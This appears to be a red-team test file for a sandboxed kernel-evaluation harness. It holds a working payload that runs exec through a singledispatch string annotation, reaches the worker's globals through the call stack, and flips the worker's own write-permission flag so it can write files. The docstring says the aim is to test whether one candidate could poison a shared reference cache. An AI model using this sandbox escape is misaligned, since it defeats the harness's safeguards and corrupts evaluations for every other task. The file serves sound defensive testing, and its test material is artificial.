"""EXPLOIT: can the worker payload write files (which would let one candidate poison the shared input/reference cache /dev/shm/nkiagent-inputs-0 that later evaluations of every task read)?  Tested only against a file in the red-team staging directory.
CLASS: 1
TASK: vector_add
EXPECT: rejected
REASON: compiling or running code built at run time

Written from outside by the red team (README, CLI, public emulator and cost model only). Before the
issue-18 fixes (064c209): fail, latency_us None, baseline_latency_us None, first reason: "runtime error RuntimeError: open_w: PermissionError: sandbox: writing 'probes/pwn_write_open_w.txt' is not allowed in kernel code | os_open: PermissionError: sandbox: writing 'probes/pwn_write_os_open.txt' is not allowed in kernel code | np_save: PermissionError: sandbox: writing 'probes/pwn_write_np_save.txt.npy' is not allowed in kernel code at /work..."

The payload (singledispatch string annotation) tries open(..., "w"), os.open(O_WRONLY|O_CREAT)
and numpy.save on probes/pwn_write_*.txt, records which attempts raised
and what, and reports through the failure message.  With BYPASS = True it first sets the
worker module's own ``_WORKER_WRITING[0] = True`` (a mutable list in the worker's globals,
reachable from the ``_serve`` frame) before trying.  The real cache was NOT touched; only the
staging directory was written to.
"""

import functools

import nki
import nki.isa as nisa
import nki.language as nl

BYPASS = True

PAYLOAD = r'''
import os, inspect
import numpy as _np
_res = []
_wg = [f for f in inspect.stack() if f.function == "_serve"][0].frame.f_globals
_flag = _wg.get("_WORKER_WRITING")
if BYPASS and isinstance(_flag, list):
    _flag[0] = True  # the worker's own "I am writing" switch, flipped from kernel code
for _name, _fn in (
    ("open_w", lambda p: open(p, "w").write("x")),
    ("os_open", lambda p: os.close(os.open(p, os.O_WRONLY | os.O_CREAT, 0o644))),
    ("np_save", lambda p: _np.save(p, _np.zeros(3))),
):
    _p = "probes/pwn_write_%s.txt" % _name
    try:
        _fn(_p)
        _res.append("%s: WROTE %s exists=%s" % (_name, _p, os.path.exists(_p)))
    except BaseException as _e:
        _res.append("%s: %s: %s" % (_name, type(_e).__name__, _e))
raise RuntimeError(" | ".join(_res))
'''


def _hook(x: "exec(PAYLOAD) or type('T', (), {})"):
    pass


@functools.singledispatch
def _dispatch(x):
    return x


@nki.jit
def kernel(a, b):
    _dispatch.register(_hook)
    n, d = a.shape
    out = nl.ndarray((n, d), dtype=a.dtype, buffer=nl.shared_hbm)
    return out
